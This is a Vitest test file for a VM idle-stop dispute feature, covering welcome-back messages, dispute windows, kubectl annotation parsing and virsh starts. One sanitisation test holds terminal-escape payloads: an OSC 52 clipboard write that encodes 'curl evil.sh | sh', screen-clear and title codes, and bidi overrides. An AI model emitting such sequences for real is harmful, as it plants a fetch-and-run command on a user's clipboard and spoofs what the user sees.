import { describe, expect, it } from "vitest";
import { disputeRecord, disputesFromDocument, platformDisputes } from "../../../src/comeback/start/disputes.js";
import { DISPUTE_WINDOW_MS, disputeOpen, suggestedIdleTimeout } from "../../../src/comeback/start/dispute.js";
import type { LastStopFacts } from "../../../src/comeback/start/platform.js";
import { welcomeBack, WELCOME_KEEP_HINT } from "../../../src/comeback/start/welcome.js";
import { StandaloneStarts, noStartCommandHint } from "../../../src/platform/standalone/start.js";
import { disputeVerdicts, formatDisputesText } from "../../../src/offline/whatif/disputes-report.js";
import type { VmOutcome } from "../../../src/offline/whatif/simulate.js";

const STOP_AT = Date.parse("2026-12-01T18:00:00Z");
const stop: LastStopFacts = {
  atMs: STOP_AT,
  reason: "idle for 2h10m (idle-timeout 2h)",
  idleSeconds: 7800,
  lastActivity: { atMs: STOP_AT - 7800_000, what: "input on pts/0 (alice)" },
  bootId: "boot-a",
};
const VM = { namespace: "users", name: "alice-gpu" };

describe("the welcome back the collector sends (start/welcome.ts)", () => {
  it("to an agent of another boot after the stop: when, why, idle, last activity, ws-lease, the dispute link", () => {
    const welcome = welcomeBack(
      stop,
      "boot-b",
      STOP_AT + 3600_000,
      "https://ws.example.com/start/users/alice-gpu?t=s1.x",
    );
    expect(welcome).toEqual({
      id: `stop-${STOP_AT}`,
      stoppedAtUnixSeconds: STOP_AT / 1000,
      reason: stop.reason,
      idleSeconds: 7800,
      lastActivity: "input on pts/0 (alice)",
      lastActivityAtUnixSeconds: (STOP_AT - 7800_000) / 1000,
      keepHint: WELCOME_KEEP_HINT,
      disputeUrl: "https://ws.example.com/start/users/alice-gpu?t=s1.x",
    });
  });

  it("says how long the start waited to be placed, with the scheduler's words; nothing of a start placed at once", () => {
    const memory = {
      unplacedSinceMs: STOP_AT + 3600_000,
      unplacedMessage: "0/3 nodes are available: 3 Insufficient nvidia.com/gpu.",
      placedAfterSeconds: 720,
    };
    expect(welcomeBack(stop, "boot-b", STOP_AT + 4400_000, undefined, memory)).toMatchObject({
      placementWaitSeconds: 720,
      placementMessage: "0/3 nodes are available: 3 Insufficient nvidia.com/gpu.",
    });
    const atOnce = welcomeBack(stop, "boot-b", STOP_AT + 4400_000, undefined, {});
    expect(atOnce).toBeDefined();
    expect(atOnce).not.toHaveProperty("placementWaitSeconds");
  });

  it("nothing for the stopped boot itself, no stop, a stop in the future or one a month old", () => {
    expect(welcomeBack(stop, "boot-a", STOP_AT + 1000)).toBeUndefined();
    expect(welcomeBack(null, "boot-b", STOP_AT + 1000)).toBeUndefined();
    expect(welcomeBack(stop, "boot-b", STOP_AT - 1000)).toBeUndefined();
    expect(welcomeBack(stop, "boot-b", STOP_AT + 31 * 86_400_000)).toBeUndefined();
  });

  it("a stop with no boot recorded (the agent was lost): any later connection; a disputed one offers no dispute", () => {
    const { bootId: _, ...unbooted } = stop;
    expect(
      welcomeBack({ ...unbooted, disputedAtMs: STOP_AT + 10 }, "", STOP_AT + 1000, "https://x/start"),
    ).toMatchObject({ disputeUrl: "" });
  });
});

describe("the dispute window (issue 40 #3)", () => {
  it("open from the stop for as long as the welcome back explains it, once per stop, whatever the VM's state", () => {
    expect(disputeOpen(stop, STOP_AT)).toBe(true);
    expect(disputeOpen(stop, STOP_AT + DISPUTE_WINDOW_MS)).toBe(true);
    expect(disputeOpen(stop, STOP_AT + DISPUTE_WINDOW_MS + 1)).toBe(false);
    expect(disputeOpen(stop, STOP_AT - 1)).toBe(false);
    expect(disputeOpen({ ...stop, disputedAtMs: STOP_AT + 10 }, STOP_AT + 20)).toBe(false);
    expect(disputeOpen(null, STOP_AT)).toBe(false);
    // The welcome back links to the form exactly while it is open.
    const url = "https://ws.example.com/start/users/alice-gpu?t=s1.x";
    expect(welcomeBack(stop, "boot-b", STOP_AT + DISPUTE_WINDOW_MS, url)?.disputeUrl).toBe(url);
    expect(welcomeBack(stop, "boot-b", STOP_AT + DISPUTE_WINDOW_MS + 1, url)).toBeUndefined();
  });
});

describe("the stop disputes whatif lists (start/disputes.ts, whatif/disputes-report.ts)", () => {
  const disputed: LastStopFacts = {
    ...stop,
    disputedAtMs: STOP_AT + 600_000,
    raw: {
      when: new Date(STOP_AT).toISOString(),
      reason: stop.reason,
      dispute: {
        at: new Date(STOP_AT + 600_000).toISOString(),
        by: "alice",
        what: "training overnight",
        knob: "idle-timeout 2h11m …",
      },
    },
  };

  it("a dispute with the knob that would have kept the VM, as whatif's flag", () => {
    expect(suggestedIdleTimeout(7800)).toBe("2h11m");
    expect(disputeRecord(VM, disputed)).toMatchObject({
      vm: "users/alice-gpu",
      stoppedAt: "2026-12-01T18:00:00.000Z",
      by: "alice",
      what: "training overnight",
      knob: { name: "idle-timeout", value: "2h11m" },
    });
    expect(disputeRecord(VM, stop)).toBeUndefined();
  });

  it("reads kubectl get vm -A -o json (the last-stop annotations) and the collector's /api/disputes", () => {
    const list = {
      kind: "VirtualMachineList",
      items: [
        {
          metadata: {
            namespace: "users",
            name: "alice-gpu",
            annotations: {
              "workstation.aik8s.run/last-stop": JSON.stringify({
                when: "2026-12-01T18:00:00Z",
                reason: "idle for 2h10m",
                signals: { idleSeconds: 7800 },
                dispute: { at: "2026-12-01T18:10:00Z", by: "alice", what: "x", knob: "…" },
              }),
            },
          },
        },
        { metadata: { namespace: "users", name: "quiet", annotations: {} } },
      ],
    };
    const fromKube = disputesFromDocument(JSON.stringify(list), "workstation.aik8s.run/");
    expect(fromKube.map((d) => [d.vm, d.knob.value])).toEqual([["users/alice-gpu", "2h11m"]]);
    expect(disputesFromDocument(JSON.stringify({ disputes: fromKube }), "workstation.aik8s.run/")).toEqual(fromKube);
    expect(() => disputesFromDocument("{", "p/")).toThrow(/not JSON/);
    expect(() => disputesFromDocument('{"kind":"Pod"}', "p/")).toThrow(/got kind Pod/);
  });

  it("whatif --disputes over a document whose kernel names, process names and dispute text carry terminal escapes prints none of them", () => {
    const osc52 = "\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007";
    const list = {
      kind: "VirtualMachineList",
      items: [
        {
          metadata: {
            namespace: "users",
            name: "alice-gpu",
            annotations: {
              "workstation.aik8s.run/last-stop": JSON.stringify({
                when: "2026-12-01T18:00:00Z",
                reason: "idle for 2h10m",
                signals: {
                  idleSeconds: 7800,
                  lastActivity: { at: "2026-12-01T15:50:00Z", what: `jupyter kernel busy${osc52} (python3\u009b2J)` },
                },
                dispute: {
                  at: "2026-12-01T18:10:00Z",
                  by: `alice\u202eevil`,
                  what: `training\u001b[2J\u001b]0;root\u0007\u0085\u2066x\u2069`,
                  knob: `…${osc52}`,
                },
              }),
            },
          },
        },
      ],
    };
    const disputes = disputesFromDocument(JSON.stringify(list), "workstation.aik8s.run/");
    const text = formatDisputesText(disputeVerdicts(disputes, [], 60));
    expect(text).toMatch(/alice evil +training \[2J \]0;root x/);
    expect(text).toContain("jupyter kernel busy ]52;c;Y3VybCBldmlsLnNoIHwgc2g= (python3 2J)");
    for (const raw of ["\u001b", "\u0007", "\u009b", "\u0085", "\u202e", "\u2066", "\u2069"])
      expect(text.includes(raw), JSON.stringify(raw)).toBe(false);
  });

  it("beside a replay: kept, or still stopped near the disputed time", () => {
    const record = disputeRecord(VM, disputed)!;
    const outcome = (stops: number[]): VmOutcome => ({
      namespace: "users",
      name: "alice-gpu",
      stops: stops.map((atMs) => ({ atMs }) as VmOutcome["stops"][number]),
      vmHoursSaved: 0,
      gpuHoursSaved: 0,
      likelyFalseStops: 0,
      reportedSteps: 10,
    });
    expect(disputeVerdicts([record], [outcome([])], 60)[0]!.replay).toBe("kept");
    expect(disputeVerdicts([record], [outcome([STOP_AT + 120_000])], 60)[0]).toMatchObject({
      replay: "still stopped",
      replayStopAt: "2026-12-01T18:02:00.000Z",
    });
    expect(disputeVerdicts([record], [], 60)[0]!.replay).toBe("not in the replay");
    const text = formatDisputesText(disputeVerdicts([record], [outcome([])], 60));
    expect(text).toMatch(/users\/alice-gpu .*training overnight +--idle-timeout 2h11m +kept/);
    expect(text).toContain("ws-collector whatif --prometheus URL --from now-7d --disputes FILE --idle-timeout 2h11m");
    expect(formatDisputesText([])).toContain("none");
  });
});

describe("standalone starts (standalone/start.ts)", () => {
  function platform(startCommand?: string[]) {
    let now = STOP_AT;
    let connectedAt: number | undefined;
    const runs: string[][] = [];
    const starts = new StandaloneStarts({
      ...(startCommand ? { startCommand } : {}),
      configured: () => [VM],
      labels: () => ({}),
      annotations: () => ({}),
      owner: () => "alice",
      connectedAtMs: () => connectedAt,
      nowMs: () => now,
      run: async (argv) => {
        runs.push([...argv]);
        return { ok: true, message: "started" };
      },
    });
    return {
      starts,
      runs,
      tick: (ms: number) => (now += ms),
      connect: () => (connectedAt = now),
      disconnect: () => (connectedAt = undefined),
    };
  }

  it("records ws's stop, runs the start command once it is asked, and reads running from the new boot's agent", async () => {
    const p = platform(["virsh", "start", "{name}"]);
    p.connect();
    p.tick(1000);
    p.starts.recordStop(
      VM,
      "idle for 2h",
      { trigger: "idle", explanation: undefined, bootId: "boot-a" },
      STOP_AT + 1000,
    );
    p.disconnect();
    const stopped = p.starts.facts(VM)!;
    expect([stopped.status, stopped.wantsToRun, stopped.instance, stopped.lastStop?.bootId]).toEqual([
      "Stopped",
      false,
      null,
      "boot-a",
    ]);
    expect(stopped.startHint).toBeUndefined();
    p.tick(1000);
    expect(await p.starts.start(VM)).toMatchObject({ ok: true, already: false });
    expect(p.runs).toEqual([["virsh", "start", "alice-gpu"]]);
    const started = p.starts.facts(VM)!;
    expect([started.wantsToRun, started.instance?.phase, started.stageLabels?.scheduled]).toEqual([
      true,
      "Running",
      "Start command run",
    ]);
    expect(await p.starts.start(VM)).toMatchObject({ ok: true, already: true });
    expect(p.runs).toHaveLength(1);
    expect(
      await p.starts.recordDispute(VM, { at: new Date(STOP_AT + 5000).toISOString(), by: "alice" }, STOP_AT + 1000),
    ).toMatchObject({ kept: "kept" });
    expect(p.starts.facts(VM)!.lastStop?.disputedAtMs).toBe(STOP_AT + 5000);
    // One dispute per stop: a second one is "already", and keeps the first.
    expect(
      await p.starts.recordDispute(VM, { at: new Date(STOP_AT + 9000).toISOString(), by: "alice" }, STOP_AT + 1000),
    ).toEqual({ kept: "already", atMs: STOP_AT + 5000 });
  });

  it("without a start command: no button, the page says how to start it instead, and nothing runs", async () => {
    const p = platform();
    p.starts.recordStop(VM, "idle", undefined, STOP_AT);
    expect(p.starts.facts(VM)!.startHint).toBe(noStartCommandHint(VM));
    expect(noStartCommandHint(VM)).toContain("virsh start alice-gpu");
    expect(await p.starts.start(VM)).toMatchObject({ ok: false });
    expect(p.runs).toEqual([]);
  });

  it("an unknown VM has no page", () => {
    expect(platform().starts.facts({ namespace: "users", name: "nobody" })).toBeUndefined();
  });
});

describe("/api/disputes (platformDisputes)", () => {
  it("lists only the disputes the viewer may see", async () => {
    const starts = new StandaloneStarts({
      configured: () => [VM],
      labels: () => ({}),
      annotations: () => ({}),
      owner: () => "alice",
      connectedAtMs: () => undefined,
      nowMs: () => STOP_AT,
    });
    starts.recordStop(VM, "idle for 2h10m", undefined, STOP_AT);
    await starts.recordDispute(
      VM,
      { at: new Date(STOP_AT + 1).toISOString(), by: "alice", what: "x", knob: "k" },
      STOP_AT,
    );
    expect(platformDisputes(starts, () => true).map((d) => d.vm)).toEqual(["users/alice-gpu"]);
    expect(platformDisputes(starts, (owner) => owner === "bob")).toEqual([]);
  });
});
